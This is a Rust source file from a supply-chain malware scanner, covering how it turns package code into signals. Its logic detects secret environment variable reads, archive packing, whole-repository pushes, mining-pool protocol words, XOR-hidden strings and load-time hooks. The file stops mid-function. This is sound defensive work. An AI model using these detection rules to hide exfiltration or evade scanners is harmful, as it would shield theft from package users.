//! What Rust code does, in the scanner's vocabulary: calls, method calls, macros, literals and
//! attributes, as either front end (`syn` or the token fallback) sees them, turned into signals.
//!
//! Both front ends report the same events, so the knowledge of which API opens a socket, which
//! program is a compiler and which decoder hides a string lives here once (the names themselves
//! are tables of [`vocabulary`](super::vocabulary)).

use crate::scan::HashMap;
use std::collections::BTreeSet;

use super::constants::{is_constant_name, Constants, Literal};
use super::context::Context;
use super::decode::{self, Hints};
use super::evaluate;
use super::signal::{HostClass, Origin, ProgramClass, Signal, SignalKind};
use super::text::{literal_signals, shell_signals};
use super::vocabulary::{
    ADDRESS_PATTERN_MARKERS, BUILD_TOOLS, BUILD_TOOL_PREFIXES, BUILD_TOOL_SUFFIXES, CI_VARIABLES,
    CLIENT_TYPES, CLIPBOARD_EITHER_WAY, CLIPBOARD_INPUT_FLAGS, CLIPBOARD_OUTPUT_FLAGS,
    CLIPBOARD_PATH_WORD, CLIPBOARD_PROGRAMS, CLIPBOARD_READS, CLIPBOARD_WRITES, COMMAND_CHAINS,
    COMMAND_PREFIXES, CONNECTION_TYPES, CREDENTIAL_VARIABLE_PREFIXES, DECODER_PATHS,
    DECODER_RECEIVERS, DECODING_HINT_NEEDLES, DIRECTORY_WALKS, DOWNLOADERS,
    DOWNLOADER_OUTPUT_FLAGS, DROPPED_PATH_PARTS, DROPPED_PATH_PREFIXES, ENVIRONMENT_PROGRAMS,
    FIXED_MOMENTS, FUNCTION_TAKING, GENERIC_IDENTIFIERS, HOME_VARIABLES, HOST_PROFILE_CRATES,
    HOST_VARIABLES, KEY_PATTERN_MARKERS, LOCALE_FUNCTIONS, LOCALE_PATHS, LOCALE_PROGRAMS,
    LOCALE_VARIABLES, MINERS, NETWORK_CRATES, NETWORK_PROBES, NETWORK_TYPES, PERSISTENCE_QUERIES,
    PERSISTENCE_TOOLS, RANDOM_CALLS, RANDOM_METHODS, RECON_TOOLS, RECURSIVE_REMOVE_FLAGS,
    REQUEST_TYPES, SCRIPT_EXTENSIONS, SECRET_VARIABLE_WORDS, SERVER_CRATES, SHELLS,
    SHELL_ENCODED_FLAGS, SHELL_SCRIPT_FLAGS, TOOLCHAIN_HOME_DIRECTORIES, TOOLCHAIN_HOME_FUNCTIONS,
    TOOLCHAIN_HOME_VARIABLES, TREE_REMOVALS, USER_DIRECTORY_FUNCTIONS,
};
use super::vocabulary::{
    EVALUATING_METHODS, EVASION_MARKERS, INTERPRETERS, INTERPRETER_CRATES,
    INTERPRETER_INLINE_FLAGS, LAUNCHERS, LAUNCHER_VALUE_OPTIONS, MINING_ALGORITHMS,
    POWERSHELL_CLIPBOARD, STRATUM_METHODS, WASM_RUNTIME_CRATES,
};

/// An argument of a call as written.
#[derive(Debug, Clone)]
pub enum Arg {
    Str(String),
    Int(u128),
    Bytes(Vec<u8>),
    /// Any other expression, as source text.
    Expr(String),
}

impl Arg {
    fn text(&self) -> String {
        match self {
            Arg::Str(s) => format!("{s:?}"),
            Arg::Int(v) => v.to_string(),
            Arg::Bytes(_) => "b\"…\"".to_owned(),
            Arg::Expr(e) => e.clone(),
        }
    }
}

/// Most indices a decoder called with a value of the run is evaluated on (see
/// [`Collector::evaluate_indices`]): tables of hidden strings are short.
const MAX_EVALUATED_INDICES: usize = 8;

/// Most decoders of one file evaluated on their first indices.
const MAX_PROBED_DECODERS: usize = 4;

/// Whether `text` is a bare local's name (`o`, `options`), not a path or a call.
fn is_plain_name(text: &str) -> bool {
    !text.is_empty()
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && text.bytes().next().is_some_and(|b| !b.is_ascii_digit())
}

/// Whether `program` (lower case, no directory) started with `arguments` (the literals of one
/// `.arg`/`.args`) packs files into one: `tar czf` / `tar -cf` / `tar --create`, `zip -r`, `7z a`,
/// `git bundle create`, `git archive` (not `--remote`, which fetches one).
pub(super) fn packs(program: &str, arguments: &[String]) -> bool {
    let first = arguments.first().map(String::as_str).unwrap_or("");
    match program {
        // A cluster of tar's letters with `c` and `f` (`czf`, `-cvzf`), or `--create`: not a
        // directory named `include`, not `-C dir`.
        "tar" | "bsdtar" | "gtar" => {
            let cluster = first.strip_prefix('-').unwrap_or(first);
            first == "--create"
                || (cluster.contains('c')
                    && cluster.contains('f')
                    && cluster.len() <= 8
                    && cluster.bytes().all(|b| b"cfzjJvpaPhS".contains(&b)))
        }
        "zip" => arguments
            .iter()
            .any(|a| a == "-r" || a == "--recurse-paths"),
        "7z" | "7za" => first == "a",
        "git" => {
            (first == "bundle" && arguments.get(1).is_some_and(|a| a == "create"))
                || (first == "archive" && !arguments.iter().any(|a| a.starts_with("--remote")))
        }
        _ => false,
    }
}

/// Whether the next argument of `program` after the literals `said` so far is the file it packs
/// into: after `tar czf`, `7z a`, `git bundle create`, `git archive … -o`, and `zip -r`'s
/// options.
pub(super) fn output_follows(program: &str, said: &[String]) -> bool {
    let Some(last) = said.last() else {
        return false;
    };
    match program {
        "tar" | "bsdtar" | "gtar" => packs(program, std::slice::from_ref(last)),
        "zip" => {
            said.iter().any(|a| a == "-r" || a == "--recurse-paths")
                && said.iter().all(|a| a.starts_with('-'))
        }
        "7z" | "7za" => said.len() == 1 && last == "a",
        "git" => {
            (said.len() == 2 && said[0] == "bundle" && last == "create")
                || (said.first().is_some_and(|a| a == "archive")
                    && (last == "-o" || last == "--output")
                    && packs(program, said))
        }
        _ => false,
    }
}

/// Longest argument text parsed to see whether a call's arguments are constants.
const MAX_CONSTANT_ARGUMENT: usize = 512;

/// The last segment of the path a method's receiver ends with (`crate::t::LIST` in
/// `… crate::t::LIST`: the token walk hands over the statement up to the method).
fn constant_receiver(receiver: &str) -> Option<&str> {
    let receiver = receiver.trim_end();
    let start = receiver
        .char_indices()
        .rev()
        .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_' || *c == ':'))
        .map_or(0, |(at, c)| at + c.len_utf8());
    receiver[start..].rsplit("::").next()
}

/// Whether an environment variable name holds a secret.
fn is_secret_variable(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    if upper.starts_with("CARGO_") && !upper.contains("TOKEN") {
        return false;
    }
    SECRET_VARIABLE_WORDS
        .iter()
        .any(|word| upper.contains(word))
}

/// A spawn seen in the current scope, so that `.arg(…)` calls can be attributed to it.
struct PendingSpawn {
    class: ProgramClass,
    /// A script interpreter (`python3`, `node`), which runs a command line after `-c`/`-e`
    /// the way a shell does.
    interpreter: bool,
    /// Python, whose `-c` runs a program (Ruby's and PHP's do not).
    python: bool,
    expects_script: bool,
    expects_encoded: bool,
    /// A launcher (`nohup`, `setsid`, `sudo`) whose program, its first argument that is not a
    /// flag, has not been seen yet.
    launches: bool,
    /// The spawn is `std::process::Command`'s (or another known process API's) for certain.
    definite: bool,
    /// A scheduler asked a question (`systemctl status`), which installs nothing.
    queried: bool,
    /// The program's name, lower case, without its directory (`tar`, `git`).
    program: String,
    /// A clipboard tool told to print the clipboard (`xclip -o`), and one taken to write it.
    clipboard_output: bool,
    clipboard_written: bool,
    /// An argument that is not an option has been given (`configure` in `sh configure
    /// --prefix=…`): what follows is the script's, not the script.
    positional_seen: bool,
}

/// Whether a network signal's description is of a connection a function was handed or holds
/// (see [`Collector::network_parameter`], [`Collector::push_network`]), not one it makes.
fn held_connection(how: &str) -> bool {
    how.starts_with("a connection held by") || how.contains(" of type ")
}

/// An address written as an array of four numbers (`[203, 0, 113, 5]`).
fn ipv4_from_array(text: &str) -> Option<std::net::Ipv4Addr> {
    let inner = text.trim().strip_prefix('[')?.strip_suffix(']')?;
    let octets: Vec<u8> = inner
        .split(',')
        .map(|part| part.trim().trim_end_matches("u8").parse().ok())
        .collect::<Option<_>>()?;
    let octets: [u8; 4] = octets.try_into().ok()?;
    Some(std::net::Ipv4Addr::from(octets))
}

/// Most file reads remembered per function, for [`SignalKind::RewritesInPlace`].
const MAX_READ_PATHS: usize = 64;

/// A path argument as written, without the borrow (`&path` and `path` are one path).
fn written_path(text: &str) -> String {
    text.trim().trim_start_matches('&').trim().to_owned()
}

struct Frame {
    id: u32,
    test: bool,
    load_time: bool,
    hints: Hints,
    /// Literals waiting for the function's final hints.
    pending_bytes: Vec<(Vec<u8>, u32)>,
    pending_strings: Vec<(String, u32)>,
    /// Names of variables the scanner knows (`"LC_ALL"`, `"HOME"`) written as literals in the
    /// function: read by `env::var(name)` with a name from a list of them.
    variable_names: Vec<String>,
    /// Constants of other files the function names (`consts::KEY`), decoded with its hints.
    constant_uses: Vec<(String, u32)>,
    spawn: Option<PendingSpawn>,
    runs_command: bool,
    filters_cargo_variables: bool,
    /// A piece of a secret variable's name written in the function (`"_TOKEN"`, `"SECRET"`):
    /// with every variable read, the ones picked by it are secrets.
    secret_name_filter: Option<String>,
    /// Variables kept to the crate's own prefix (`k.starts_with("LIBFOO_")`), and whether some
    /// test of a name excludes what it matches (`!k.starts_with("CARGO_")`): kept to a prefix
    /// only if nothing is let through besides it.
    own_prefix_filter: bool,
    excluding_filter: bool,
    first_signal: usize,
    /// The paths the function reads files from (`fs::read(path)`, `File::open(path)`), as
    /// written: a write to one of them is a rewrite in place.
    read_paths: Vec<String>,
    /// The names its parameters bind (`syn` only): a rewrite in place counts where the path is
    /// one of them — a file handed in, as a walk hands over what it finds.
    params: Vec<String>,
    /// Whether it pushes to a git remote, and what in it selects every ref (see
    /// [`RepositoryPush`]).
    pushes: bool,
    all_refs: Option<(String, u32)>,
    /// Locals given options one call at a time (`let mut o = OpenOptions::new();
    /// o.create(true).write(true);`), with the options set, written as a chain would be: what
    /// `o.open(path)` opens is judged as the chain's would be.
    writing_options: Vec<(String, String)>,
}

/// Code size, for the squatting rule.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CodeMetrics {
    /// Items that do something: functions with a body, types, traits, impls, constants, macros.
    pub items: u32,
    /// One of the package's decoders was called on something other than constants written
    /// out (a key held in a local variable): the parse may find those constants where the
    /// walk through the tokens cannot.
    pub decoder_on_variables: bool,
}

/// The words of [`EVASION_MARKERS`], found in one pass whatever their case.
static EVASION_WORDS: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(EVASION_MARKERS)
            .expect("evasion markers build")
    });

/// Any word of a mining pool's protocol ([`MINING_ALGORITHMS`], [`STRATUM_METHODS`], the
/// fields work is submitted with), to skip the literals that hold none.
static MINING_WORDS: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| {
        let words = MINING_ALGORITHMS
            .iter()
            .chain(STRATUM_METHODS)
            .chain(&["job_id", "nonce"]);
        aho_corasick::AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(words)
            .expect("mining words build")
    });

/// A call to `include_bytes!`/`include_str!`, resolved by the caller against the package.
#[derive(Debug, Clone)]
pub struct Include {
    pub path: String,
    pub line: u32,
    pub scope: Option<u32>,
    pub context: Context,
    pub bytes: bool,
}

/// Facts about functions, for finding what load-time hooks reach.
#[derive(Debug, Default, Clone)]
pub struct CallGraph {
    /// Function name → scope ids of functions with that name.
    pub functions: HashMap<String, Vec<u32>>,
    /// Scope id → names it calls.
    pub calls: HashMap<u32, BTreeSet<String>>,
    /// Scopes (or names) registered to run at load time.
    pub roots: Vec<u32>,
    pub root_names: Vec<String>,
}

/// Most opaque byte arrays reported per file: enough for a sealed configuration's few, not a
/// signal for each of a generated file's thousands of test vectors or tables (which would spend
/// the scan's budget of signals).
const MAX_OPAQUE_ARRAYS: usize = 32;

pub struct Collector<'a> {
    file: &'a str,
    context: Context,
    source: &'a str,
    line_starts: Vec<usize>,
    next_scope: &'a mut u32,
    frames: Vec<Frame>,
    test_depth: u32,
    /// Inside a procedural macro's `quote!`: code it emits into its user's crate.
    emitted_depth: u32,
    imports: HashMap<String, String>,
    /// An `xclip` or `xsel` named in data, as (its signal, literals seen since): the arguments
    /// written after it settle whether it reads or writes the clipboard.
    /// (Signals can be removed meanwhile: the index is checked against the line.)
    unsettled_clipboard_tool: Option<(usize, u32, u8)>,
    pub signals: Vec<Signal>,
    pub metrics: CodeMetrics,
    pub includes: Vec<Include>,
    pub graph: CallGraph,
    /// String literals of the file, for shell analysis once a shell spawn is seen anywhere in it.
    literals: Vec<(String, u32, Option<u32>, Context)>,
    /// The decoders evaluated on their first indices in this file (see
    /// [`Collector::evaluate_indices`]): each once, and only a few, so that honest helpers that
    /// take an index (`column_name(i)`) do not spend the package's evaluations.
    probed_decoders: Vec<String>,
    saw_shell: bool,
    brute_force_budget: usize,
    /// What every function of the file together does to decode (XOR, arithmetic, reversal).
    file_hints: Hints,
    /// Literals outside any function, or in functions that decode nothing themselves: the
    /// decoding is often in a helper (`fn d(b: &[u8]) -> String`) and the data in a constant or
    /// the caller, so they are decoded at the end of the file with the whole file's hints.
    deferred: Vec<Deferred>,
    /// Whether the file holds any of the operations that give decoding hints: without one, no
    /// literal of it is ever brute-forced, so none is kept for it.
    may_decode: bool,
    /// Short byte arrays (2 to 16 bytes), which may be the key of a repeating-key XOR
    /// (`data[i] ^ KEY[i % KEY.len()]`) that single-byte guessing cannot undo.
    xor_keys: Vec<Vec<u8>>,
    /// Opaque byte arrays reported so far (see [`MAX_OPAQUE_ARRAYS`]).
    opaque_arrays: usize,
    /// The file's longer byte arrays, to be tried with those keys.
    xor_data: Vec<Deferred>,
    /// Maps from characters to numbers that tables of the file gave away (see
    /// [`decode::table_map`]), and the tables that gave none, to be read through them at the end.
    table_maps: Vec<decode::TableMap>,
    tables: Vec<(Vec<i64>, u32, Option<u32>, Context)>,
    /// What of a mining pool's protocol the file's literals hold.
    mining: MiningWords,
    /// What of a push of a whole repository the file holds.
    push: RepositoryPush,
    /// The package's constants, for functions that decode a constant of another file.
    constants: Option<&'a Constants<'a>>,
}

/// The words of a mining pool's protocol seen in a file: a proof-of-work algorithm's name
/// (where it was), and the fields work is submitted with.
#[derive(Default)]
struct MiningWords {
    algorithm: Option<(String, u32)>,
    job_id: bool,
    /// Where the nonce field was named.
    nonce: Option<u32>,
    /// The share's hash (`result`), the third field a share is submitted with: the lines where
    /// `job_id`, `nonce` and `result` were last seen, which must be one message's (a few lines
    /// apart), not a log line's `job_id` and an error's `nonce` anywhere in the file.
    result: bool,
    share_lines: [Option<u32>; 3],
    /// Whether the three were once seen within a few lines of each other.
    one_message: bool,
}

impl MiningWords {
    /// Notes whether the share's three fields, as last seen, are one message's.
    fn note_share_line(&mut self) {
        if let [Some(a), Some(b), Some(c)] = self.share_lines {
            self.one_message |= a.max(b).max(c) - a.min(b).min(c) <= 4;
        }
    }
}

/// A push of every branch or tag of a repository, from its pieces: a function that pushes
/// (`git`'s `push` word, or a two-argument `.push(specs, options)` as `git2`'s is) and what
/// selects every ref (`--mirror`, a wildcard ref spec) in that function or in a constant of its
/// file. A fetch with the same ref spec, or a `"push"` event handled elsewhere, is not one.
#[derive(Default)]
struct RepositoryPush {
    /// An every-ref selector outside any function (a constant of ref specs), and where.
    file_all_refs: Option<(String, u32)>,
    /// Functions that push.
    pushing: Vec<PushingFunction>,
}

/// A function that pushes: its scope, its context and the every-ref selector it holds, if any
/// (with its line).
type PushingFunction = (u32, Context, Option<(String, u32)>);

/// Pushing functions remembered per file.
const MAX_PUSHING_FUNCTIONS: usize = 16;

/// Whether a literal selects every branch or tag for a transfer: `--mirror`, or a ref spec whose
/// source is a wildcard under `refs/` and whose destination is a remote's own branches or tags
/// (`+refs/heads/*:refs/heads/*`), where a fetch's lands in `refs/remotes/`.
fn selects_every_ref(text: &str) -> bool {
    if text == "--mirror" {
        return true;
    }
    let spec = text.strip_prefix('+').unwrap_or(text);
    let Some((from, to)) = spec.split_once(':') else {
        return false;
    };
    from.starts_with("refs/")
        && from.ends_with('*')
        && (to.starts_with("refs/heads/") || to.starts_with("refs/tags/") || to == "refs/*")
}

/// A literal waiting for the file's hints, with where its signals belong.
struct Deferred {
    literal: PendingLiteral,
    line: u32,
    scope: Option<u32>,
    context: Context,
}

enum PendingLiteral {
    Bytes(Vec<u8>),
    Text(String),
}

/// Longest byte array taken for a repeating XOR key.
const MAX_XOR_KEY: usize = 16;

/// Most literals deferred to the end of a file.
const MAX_DEFERRED: usize = 1024;

/// The functions a call's arguments name as plain paths (`calib::run`, `Self::worker`, `init`):
/// a function handed over by name (`thread::spawn(calib::run)`, `once.call_once(init)`) is
/// called by whatever it is handed to, so for what a load-time hook reaches it is called where
/// it is handed over.
fn function_references(args: &[Arg], takes_functions: bool) -> impl Iterator<Item = String> + '_ {
    args.iter().filter_map(move |arg| {
        let Arg::Expr(text) = arg else {
            return None;
        };
        // Printed from tokens, a path may have spaces around its `::`.
        let name = text.rsplit("::").next()?.trim();
        let plain = text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b':' || b == b' ');
        // A bare name may as well be a local variable (`setup(level)`), unless the callee takes
        // functions (`thread::spawn(run)`); a path (`calib::run`) names an item.
        let named_item = takes_functions || text.contains("::");
        (plain && named_item && name.starts_with(|c: char| c.is_ascii_lowercase() || c == '_'))
            .then(|| name.to_owned())
    })
}

/// Longest computed text read string by string like literals written in the code (longer, only
/// a mining pool's words are looked for in it).
const MAX_COMPUTED_LITERAL: usize = 1024;

/// Longest program expression searched for a table of numbers.
const MAX_PROGRAM_EXPRESSION: usize = 512;

/// Whether an expression holds an array of two or more integer literals (`&[15, 14, 22]`,
/// `[0x73u8, 0x68]`): the table a program name is computed from. One pass over at most
/// [`MAX_PROGRAM_EXPRESSION`] bytes.
fn names_a_number_table(expression: &str) -> bool {
    if expression.len() > MAX_PROGRAM_EXPRESSION {
        return false;
    }
    // A type suffix (`u8`, `i32`) starts at the first `u` or `i`, which no hex digit is.
    let is_integer = |item: &str| {
        let digits = item.split(['u', 'i']).next().unwrap_or_default();
        let digits = digits.strip_prefix("0x").unwrap_or(digits);
        item.starts_with(|c: char| c.is_ascii_digit())
            && !digits.is_empty()
            && digits.bytes().all(|b| b.is_ascii_hexdigit() || b == b'_')
    };
    let mut rest = expression;
    while let Some(open) = rest.find('[') {
        let after = &rest[open + 1..];
        let Some(close) = after.find(']') else {
            return false;
        };
        let items: Vec<&str> = after[..close]
            .split(',')
            .map(str::trim)
            .filter(|item| !item.is_empty())
            .collect();
        if items.len() >= 2 && items.iter().all(|item| is_integer(item)) {
            return true;
        }
        rest = &after[close + 1..];
    }
    false
}

/// Tables kept per file for the maps their siblings give away, and the longest kept.
const MAX_KEPT_TABLES: usize = 64;
const MAX_KEPT_TABLE: usize = 512;

/// String pieces joined by [`Collector::string_pieces`]: a URL is split into a handful of
/// fragments, and an array of many strings, or of much text, is a table.
const MAX_PIECES: usize = 32;
const MAX_JOINED_LEN: usize = 512;

impl<'a> Collector<'a> {
    pub fn new(file: &'a str, context: Context, source: &'a str, next_scope: &'a mut u32) -> Self {
        let mut line_starts = vec![0];
        line_starts.extend(memchr::memchr_iter(b'\n', source.as_bytes()).map(|i| i + 1));
        Collector {
            file,
            context,
            source,
            line_starts,
            next_scope,
            frames: Vec::new(),
            test_depth: 0,
            emitted_depth: 0,
            imports: HashMap::default(),
            unsettled_clipboard_tool: None,
            signals: Vec::new(),
            metrics: CodeMetrics::default(),
            includes: Vec::new(),
            graph: CallGraph::default(),
            literals: Vec::new(),
            probed_decoders: Vec::new(),
            saw_shell: false,
            brute_force_budget: 64 * 1024,
            file_hints: Hints::default(),
            deferred: Vec::new(),
            xor_keys: Vec::new(),
            opaque_arrays: 0,
            xor_data: Vec::new(),
            table_maps: Vec::new(),
            tables: Vec::new(),
            mining: MiningWords::default(),
            push: RepositoryPush::default(),
            constants: None,
            may_decode: DECODING_HINT_NEEDLES
                .iter()
                .any(|needle| memchr::memmem::find(source.as_bytes(), needle.as_bytes()).is_some()),
        }
    }

    /// Looks up the constants of other files that this file's decoding functions name.
    pub fn with_constants(mut self, constants: &'a Constants<'a>) -> Self {
        self.constants = Some(constants);
        self
    }

    // ---- structure -------------------------------------------------------------------------

    pub fn enter_fn(&mut self, name: &str, test: bool, load_time: Option<String>, line: u32) {
        let id = self.graph_node(name);
        // Arguments written in another function are not this table row's.
        self.unsettled_clipboard_tool = None;
        let outer_test = self.frames.last().is_some_and(|f| f.test);
        let outer_load = self.frames.last().is_some_and(|f| f.load_time);
        if load_time.is_some() {
            self.graph.roots.push(id);
        }
        self.frames.push(Frame {
            id,
            test: test || outer_test,
            load_time: load_time.is_some() || outer_load,
            hints: Hints::default(),
            pending_bytes: Vec::new(),
            pending_strings: Vec::new(),
            variable_names: Vec::new(),
            constant_uses: Vec::new(),
            spawn: None,
            runs_command: false,
            filters_cargo_variables: false,
            secret_name_filter: None,
            own_prefix_filter: false,
            excluding_filter: false,
            first_signal: self.signals.len(),
            read_paths: Vec::new(),
            params: Vec::new(),
            pushes: false,
            all_refs: None,
            writing_options: Vec::new(),
        });
        if let Some(how) = load_time {
            self.push(SignalKind::LoadTimeHook { how }, line);
        }
    }

    pub fn file(&self) -> &str {
        self.file
    }

    pub fn context(&self) -> Context {
        self.context
    }

    pub fn leave_fn(&mut self) {
        self.unsettled_clipboard_tool = None;
        let Some(mut frame) = self.frames.pop() else {
            return;
        };
        if frame.pushes && self.push.pushing.len() < MAX_PUSHING_FUNCTIONS {
            let context = self.frame_context(&frame);
            self.push
                .pushing
                .push((frame.id, context, frame.all_refs.take()));
        } else if self.push.file_all_refs.is_none() {
            // Ref specs made by one function (a constructor filling a field) and pushed by
            // another of the file (its `Drop`): the file's, as if written outside functions.
            self.push.file_all_refs = frame.all_refs.take();
        }
        // Literals decoded with the hints the whole function gives, or left for the file's.
        let hints = frame.hints;
        self.file_hints = self.file_hints.union(hints);
        if hints.any() {
            self.take_constants(&mut frame);
            for (bytes, line) in std::mem::take(&mut frame.pending_bytes) {
                if self.take_budget(bytes.len()) {
                    self.push_in(&frame, decode::byte_signals(&bytes, hints), line);
                }
            }
            for (text, line) in std::mem::take(&mut frame.pending_strings) {
                if self.take_budget(text.len()) {
                    self.push_in(&frame, decode::string_signals(&text, hints), line);
                }
            }
        } else {
            let context = self.frame_context(&frame);
            let literals = std::mem::take(&mut frame.pending_bytes)
                .into_iter()
                .map(|(bytes, line)| (PendingLiteral::Bytes(bytes), line))
                .chain(
                    std::mem::take(&mut frame.pending_strings)
                        .into_iter()
                        .map(|(text, line)| (PendingLiteral::Text(text), line)),
                );
            for (literal, line) in literals {
                self.defer(literal, line, Some(frame.id), context);
            }
        }
        let start = frame.first_signal.min(self.signals.len());
        let scope = Some(frame.id);
        // `Command::new` that is not `std::process::Command` counts only when the function runs it
        // (clap's `Command::new("app")` does not spawn anything).
        let runs = frame.runs_command;
        // A build script iterating `env::vars()` to find `CARGO_FEATURE_*` reads its own config.
        let cargo_filter =
            frame.filters_cargo_variables || (frame.own_prefix_filter && !frame.excluding_filter);
        // Every variable read and a piece of a secret's name written: the secrets are picked.
        let picked = frame.secret_name_filter.as_ref().and_then(|piece| {
            self.signals[start..]
                .iter()
                .find(|s| {
                    s.scope == scope
                        && matches!(&s.kind, SignalKind::EnvHarvest { how } if how == "env::vars()")
                })
                .map(|harvest| (piece.clone(), harvest.line, harvest.context))
        });
        if let Some((piece, line, context)) = picked {
            let signal = self.make(
                SignalKind::SecretVariable {
                    name: format!("every variable whose name holds `{piece}`"),
                },
                line,
                scope,
                context,
            );
            self.signals.push(signal);
        }
        let mut index = start;
        self.signals.retain(|signal| {
            let keep = if index >= start && signal.scope == scope {
                match &signal.kind {
                    SignalKind::Spawn { program, .. } if program.starts_with('?') => runs,
                    SignalKind::EnvHarvest { how } if how == "env::vars()" => !cargo_filter,
                    _ => true,
                }
            } else {
                true
            };
            index += 1;
            keep
        });
        let start = start.min(self.signals.len());
        for signal in &mut self.signals[start..] {
            if let SignalKind::Spawn { program, .. } = &mut signal.kind {
                if let Some(rest) = program.strip_prefix('?') {
                    *program = rest.to_owned();
                }
            }
        }
    }

    /// Adds the values of the other files' constants that a decoding function names to its
    /// literals, and tries the short byte arrays among them as repeating XOR keys for the others
    /// (the key and the data are often each in a module of their own).
    fn take_constants(&mut self, frame: &mut Frame) {
        let Some(constants) = self.constants else {
            return;
        };
        let uses = std::mem::take(&mut frame.constant_uses);
        let mut arrays: Vec<(Vec<u8>, u32)> = Vec::new();
        for (name, line) in uses {
            let definitions = constants.definitions_of(&name);
            let others = definitions.iter().filter(|(path, _)| path != self.file);
            for (_, literal) in others {
                match literal {
                    Literal::Bytes(bytes) => {
                        if frame.hints.xor && arrays.len() < 64 {
                            arrays.push((bytes.clone(), line));
                        }
                        if frame.pending_bytes.len() < 256 {
                            frame.pending_bytes.push((bytes.clone(), line));
                        }
                    }
                    Literal::Text(text) if frame.pending_strings.len() < 256 => {
                        frame.pending_strings.push((text.clone(), line));
                    }
                    Literal::Text(_) => {}
                }
            }
        }
        let keys: Vec<&Vec<u8>> = arrays
            .iter()
            .map(|(bytes, _)| bytes)
            .filter(|bytes| (2..=MAX_XOR_KEY).contains(&bytes.len()))
            .collect();
        for (data, line) in &arrays {
            for key in keys.iter().filter(|key| key.len() < data.len()) {
                if !self.take_budget(data.len()) {
                    return;
                }
                let found = decode::repeating_key_signals(data, key);
                if !found.is_empty() {
                    self.push_in(frame, found, *line);
                    break;
                }
            }
        }
    }

    /// A call of one of the package's decoding functions with a constant (`unpack(T_SH)`): the
    /// constant decoded as that function would, where it is called.
    ///
    /// `arguments` are the last segments of the call's arguments that are paths (`tables::T_SH`,
    /// `&KEY`); the others are not looked at.
    pub fn decoder_call(&mut self, segments: &[String], arguments: &[&str], line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        let named: Vec<&str> = arguments
            .iter()
            .copied()
            .filter(|name| is_constant_name(name))
            .collect();
        let Some(callee) = segments.last() else {
            return;
        };
        // A function of a module (`util::unpack`), not a type's (`Command::new`).
        let of_type = segments.len() >= 2
            && segments[segments.len() - 2]
                .bytes()
                .next()
                .is_some_and(|b| b.is_ascii_uppercase());
        if named.is_empty() || of_type || self.frames.is_empty() {
            return;
        }
        let Some(decoder) = constants.decoder(callee) else {
            return;
        };
        for name in named {
            let definitions = constants.definitions_of(name);
            for (_, literal) in definitions.iter() {
                let found = match literal {
                    Literal::Bytes(bytes) => {
                        if !self.take_budget(bytes.len()) {
                            return;
                        }
                        let mut found = decode::byte_signals(bytes, decoder.hints);
                        if found.is_empty() && decoder.hints.xor {
                            for key in decoder.keys.iter().filter(|k| k.len() < bytes.len()) {
                                found = decode::repeating_key_signals(bytes, key);
                                if !found.is_empty() {
                                    break;
                                }
                            }
                        }
                        found
                    }
                    Literal::Text(text) => {
                        if !self.take_budget(text.len()) {
                            return;
                        }
                        decode::string_signals(text, decoder.hints)
                    }
                };
                self.push_all(found, line);
            }
        }
    }

    /// A call of one of the package's functions with nothing but constants (`spell(L_HOST)`,
    /// `vector(0, 17)`, `endpoint()`), as the front ends hand arguments over: see
    /// [`Self::evaluate_exprs`].
    pub fn evaluate_call(&mut self, segments: &[String], args: &[Arg], line: u32) {
        if !self.may_evaluate(segments) {
            return;
        }
        let span = proc_macro2::Span::call_site();
        let mut exprs = Vec::with_capacity(args.len());
        for arg in args {
            let expr = match arg {
                Arg::Str(s) => syn::Expr::Lit(syn::ExprLit {
                    attrs: Vec::new(),
                    lit: syn::Lit::Str(syn::LitStr::new(s, span)),
                }),
                Arg::Int(v) => syn::Expr::Lit(syn::ExprLit {
                    attrs: Vec::new(),
                    lit: syn::Lit::Int(syn::LitInt::new(&v.to_string(), span)),
                }),
                Arg::Bytes(b) => syn::Expr::Lit(syn::ExprLit {
                    attrs: Vec::new(),
                    lit: syn::Lit::ByteStr(syn::LitByteStr::new(b, span)),
                }),
                // A constant's path or a short literal array; longer text (nested a hundred
                // thousand deep, say) is not parsed.
                Arg::Expr(text) if text.len() > MAX_CONSTANT_ARGUMENT => return,
                Arg::Expr(text) => match syn::parse_str::<syn::Expr>(text) {
                    Ok(expr) if evaluate::is_constant(&expr) => expr,
                    _ => {
                        if let (Some(constants), Some(callee)) = (self.constants, segments.last()) {
                            let decodes = constants.decodes_text(callee);
                            self.metrics.decoder_on_variables |= decodes;
                            if decodes && args.len() == 1 {
                                self.evaluate_indices(segments, line);
                            }
                        }
                        return;
                    }
                },
            };
            exprs.push(expr);
        }
        self.evaluate_exprs(segments, &exprs, line);
    }

    /// Whether `name` is one of the package's functions that decode text (see
    /// [`Constants::decodes_text`]).
    pub fn decodes_text(&self, name: &str) -> bool {
        self.constants.is_some_and(|c| c.decodes_text(name))
    }

    /// Whether the package defines a `macro_rules!` macro called `name`.
    pub fn defines_macro(&self, name: &str) -> bool {
        self.constants.is_some_and(|c| c.defines_macro(name))
    }

    /// Whether a call of `segments` could be one of the package's functions worth evaluating:
    /// a function of a module (`alias::spell`), not a type's (`Command::new`), that computes text
    /// (see [`Constants::computes_text`]).
    pub fn may_evaluate(&self, segments: &[String]) -> bool {
        let Some(constants) = self.constants else {
            return false;
        };
        let Some(callee) = segments.last() else {
            return false;
        };
        // `Some(…)`, `Ok(…)`, tuple structs: functions are named in lower case.
        if callee.bytes().next().is_none_or(|b| b.is_ascii_uppercase()) {
            return false;
        }
        let of_type = segments.len() >= 2
            && segments[segments.len() - 2]
                .bytes()
                .next()
                .is_some_and(|b| b.is_ascii_uppercase());
        !of_type && !self.frames.is_empty() && constants.computes_text(callee)
    }

    /// A call of one of the package's functions with constant arguments (`exprs`), evaluated
    /// ([`evaluate`]): what it returns is judged like a decoded literal, where it is called. A
    /// result whose words are all spelled out somewhere in the package hides nothing (a URL
    /// joined from a base and a path).
    pub fn evaluate_exprs(&mut self, segments: &[String], exprs: &[syn::Expr], line: u32) {
        if !self.may_evaluate(segments) {
            return;
        }
